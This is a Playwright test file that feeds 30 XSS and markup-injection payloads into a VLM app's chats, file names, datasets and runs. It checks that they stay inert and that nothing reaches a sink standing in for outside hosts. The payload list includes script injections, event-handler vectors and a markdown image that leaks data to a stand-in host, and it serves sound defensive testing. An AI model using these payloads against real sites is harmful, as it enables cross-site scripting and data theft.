"""Output is data: 30 texts that try to run or to fetch, as question, answer, label, file name and title,
on every tab. Every foreign host is this test's own sink, so that nothing which leaves is missed."""

from __future__ import annotations

import re
import shutil
import socket
import threading
from collections.abc import Iterator
from contextlib import closing, suppress
from datetime import UTC, datetime
from pathlib import Path

import pytest
from PIL import Image
from playwright.sync_api import Browser, BrowserContext, ConsoleMessage, expect

from tests.browser.conftest import FLAGS, NAMES, Server, served
from tests.browser.visitor import Visitor
from tests.finetune.runs import example, folder
from tests.ui.fake_engine import FakeEngine
from vlm_app.api.owner import COOKIE, Owners
from vlm_app.chat import Chats
from vlm_app.finetune.events import State
from vlm_app.finetune.examples import Examples
from vlm_app.media import picture_from
from vlm_app.store import Store, new_id
from vlm_app.store.tables import RunRow
from vlm_app.types import Task
from vlm_app.workbench.bench import Bench
from vlm_app.workbench.sheet import Question

AWAY = "elsewhere.test"
RUN = "window.hacked=1"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<script src=//{AWAY}/a.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=//{AWAY}/a.png>",
    f'"><svg onload={RUN}>',
    f"'><svg/onload={RUN}//",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><image href=//{AWAY}/a.png></svg>",
    f"<svg><foreignObject><iframe src=//{AWAY}></iframe></foreignObject></svg>",
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data=//{AWAY}/a.svg></object><embed src=//{AWAY}/a.swf>",
    f"<video src=//{AWAY}/a.mp4 autoplay onerror={RUN}></video>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<link rel=stylesheet href=//{AWAY}/a.css><link rel=prefetch href=//{AWAY}/b>",
    f"</div></article><style>@import url(//{AWAY}/a.css)</style>",
    f'<p style="background:url(//{AWAY}/a.png)">x</p>',
    f"<base href=//{AWAY}/><meta http-equiv=refresh content='0;url=//{AWAY}'>",
    f"<form action=//{AWAY}><button autofocus>x</button></form>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"![x](https://{AWAY}/?q=secret)",
    f"![x][y]\n\n[y]: https://{AWAY}/z.png",
    f"[x](javascript:{RUN}) [y](data:text/html,<script>{RUN}</script>)",
    f"[x](<https://{AWAY}> \"' onmouseover='{RUN}\")",
    f"<a href='https://{AWAY}' ping='https://{AWAY}/p'>x</a><a href=' javascript:{RUN}'>y</a>",
    f"$$\\href{{javascript:{RUN}}}{{x}}$$ $\\includegraphics{{https://{AWAY}/a.png}}$ \\url{{//{AWAY}}}",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} `${{alert(1)}}` <%= {RUN} %>",
    f"```html\n<img src=x onerror={RUN}>\n``` <!--><img src=x onerror={RUN}>--> &lt;img onerror={RUN}&gt;",
)
OF_CHROMIUM = ("*.google.com", "*.googleapis.com", "*.gstatic.com", "*.gvt1.com")  # asked by itself
DANGER = re.compile(r"^\s*(?:javascript|data|vbscript|file):", re.IGNORECASE)


class Sink:
    """Takes every connection, never answers, and knows what each one began with (a host is named there)."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self.door = socket.create_server(("127.0.0.1", 0))
        self.port = self.door.getsockname()[1]
        threading.Thread(target=self._wait, daemon=True).start()

    def _wait(self) -> None:
        while True:
            try:
                caller, _ = self.door.accept()
            except OSError:
                return
            with caller, suppress(OSError):
                caller.settimeout(0.3)
                self.heard.append(b"a connection")
                self.heard[-1] = caller.recv(2000)


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    made = Sink()
    yield made
    made.door.close()


@pytest.fixture(scope="module")
def confined(browser: Browser, sink: Sink) -> Iterator[BrowserContext]:
    """A browser for which every host but the app's is the sink."""
    found = next(path for name in NAMES if (path := shutil.which(name)))
    own = ", ".join(f"MAP {host} ~NOTFOUND" for host in OF_CHROMIUM)
    rules = f"--host-resolver-rules={own}, MAP * 127.0.0.1:{sink.port}, EXCLUDE 127.0.0.1"
    started = browser.browser_type.launch(executable_path=found, args=[*FLAGS, rules])
    yield started.new_context(viewport={"width": 1280, "height": 800})
    started.close()


class Told:
    """Whose things carry the texts in all their names, and where they lie."""

    def __init__(self, data: Path) -> None:
        self.owner, self.cookie = Owners(data).new()
        with closing(Store(data)) as store:
            self._chat(store)
            self._sheet(store, data)
            self._taught(store, data)

    def _chat(self, store: Store) -> None:
        chats = Chats(store, FakeEngine())
        chat = chats.new(self.owner)
        picture = picture_from(Image.new("RGB", (64, 48), "green"))
        for number, payload in enumerate(PAYLOADS):
            said = (picture, f"Call it {payload}") if number == 0 else (f"Call it {payload}",)
            *_, last = chats.send(self.owner, chat, said)
            chat = last.conversation
        self.chat = chats.rename(self.owner, chat.id, PAYLOADS[2]).id

    def _sheet(self, store: Store, data: Path) -> None:
        bench, path = Bench(store, FakeEngine()), data / "a.png"
        for number, payload in enumerate(PAYLOADS):
            Image.new("RGB", (30 + number, 20)).save(path)
            sheet = bench.open(self.owner, [(path, f"{payload}.png")])
        for payload in PAYLOADS[:6]:
            question = Question(Task.CHAT, f"Call it {payload}", "pebble")
            tuple(bench.ask(self.owner, sheet.id, [sheet.pages[0].key], question))

    def _taught(self, store: Store, data: Path) -> None:
        examples = Examples(store)
        dataset = ""
        for number, payload in enumerate(PAYLOADS):
            dataset = examples.create(self.owner, f"{number} {payload}"[:80]).id
            run = new_id()
            ran = folder(data / "runs" / run, name=payload.replace("\n", " ")[:80])
            ran.update(state=State.FAILED, sentence=payload)
            with store.writing() as session:
                row = RunRow(id=run, owner=self.owner, name=payload, body={}, created=datetime.now(UTC))
                session.add(row)
        for number, payload in enumerate(PAYLOADS):
            examples.add(self.owner, dataset, example(number, payload))


@pytest.fixture(scope="module")
def told(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, Told]]:
    data = tmp_path_factory.mktemp("payloads") / "data"
    things = Told(data)
    with served(data, "-m", "tests.browser.fake_app", "PORT", "0") as server:
        yield server, things


class Reader:
    """Looks at the page as its owner; knows what ran, what was asked for, and what the policy refused."""

    def __init__(self, context: BrowserContext, server: Server, things: Told) -> None:
        self.refused: list[str] = []
        context.add_cookies([{"name": COOKIE, "value": things.cookie, "url": server.url}])
        self.visitor = Visitor.come(context, server.url, f"/?chat={things.chat}")
        self.page = self.visitor.page
        self.page.on("console", self._note)

    def _note(self, message: ConsoleMessage) -> None:
        if "Content Security Policy" in message.text:
            self.refused.append(message.text)

    def is_unharmed(self, sink: Sink) -> None:
        self.page.wait_for_timeout(500)
        assert [frame.url for frame in self.page.frames] == [self.page.url]
        assert self.page.evaluate("window.hacked") is None
        assert self.visitor.elsewhere == [] and self.refused == [] and self.visitor.errors == []
        assert sink.heard == []
        hrefs = self.page.locator("a[href]").evaluate_all("found => found.map(a => a.getAttribute('href'))")
        assert [each for each in hrefs if DANGER.match(each)] == []


@pytest.fixture(scope="module")
def reader(confined: BrowserContext, told: tuple[Server, Told]) -> Reader:
    return Reader(confined, *told)


def test_thirty_texts_are_thirty() -> None:
    assert len(set(PAYLOADS)) == 30


def test_questions_answers_labels_and_title_of_a_chat_are_text(reader: Reader, sink: Sink) -> None:
    page = reader.page
    expect(reader.visitor.answers).to_have_count(30)
    said = reader.visitor.questions.locator(".said").all_inner_texts()
    for payload, text in zip(PAYLOADS, said, strict=True):
        assert text.split() == f"Call it {payload}".split()
    for tag in page.locator(".turn .tag").all()[:5]:
        tag.hover()
    assert page.locator(".turn :is(script, iframe, style, form, link, object, video)").count() == 0
    reader.is_unharmed(sink)


def test_all_of_them_in_one_message_are_text_while_it_is_written(reader: Reader, sink: Sink) -> None:
    reader.visitor.ask("\n".join(PAYLOADS))
    reader.is_unharmed(sink)


def test_names_of_files_are_text_before_they_are_sent_and_when_they_are_refused(
    reader: Reader, sink: Sink
) -> None:
    files = [{"name": f"{each}.png", "mimeType": "image/png", "buffer": b"no image"} for each in PAYLOADS]
    reader.page.set_input_files("#message input[type=file]", files)
    expect(reader.page.locator("#message .thumbnail-item").first).to_be_visible()
    reader.visitor.write("what is this?")
    reader.visitor.send()
    expect(reader.visitor.sentence.first).to_be_visible()
    reader.is_unharmed(sink)


def test_names_and_answers_on_the_workbench_are_text(reader: Reader, sink: Sink) -> None:
    reader.page.get_by_role("tab", name="Workbench").click()
    reader.page.wait_for_timeout(1500)
    reader.is_unharmed(sink)


def test_names_of_datasets_their_examples_and_runs_are_text(reader: Reader, sink: Sink) -> None:
    reader.page.get_by_role("tab", name="Fine-tune").click()
    expect(reader.page.locator("#tune-list")).to_contain_text("window.hacked")
    reader.is_unharmed(sink)
    reader.page.get_by_role("tab", name="Runs").click()
    expect(reader.page.locator("#runs-list")).to_contain_text("window.hacked")
    reader.is_unharmed(sink)


def test_the_sink_would_have_heard(confined: BrowserContext, sink: Sink) -> None:
    page = confined.new_page()
    page.goto("about:blank")
    page.evaluate(f"fetch('http://{AWAY}/').catch(() => 0)")
    page.wait_for_timeout(2000)
    assert sink.heard
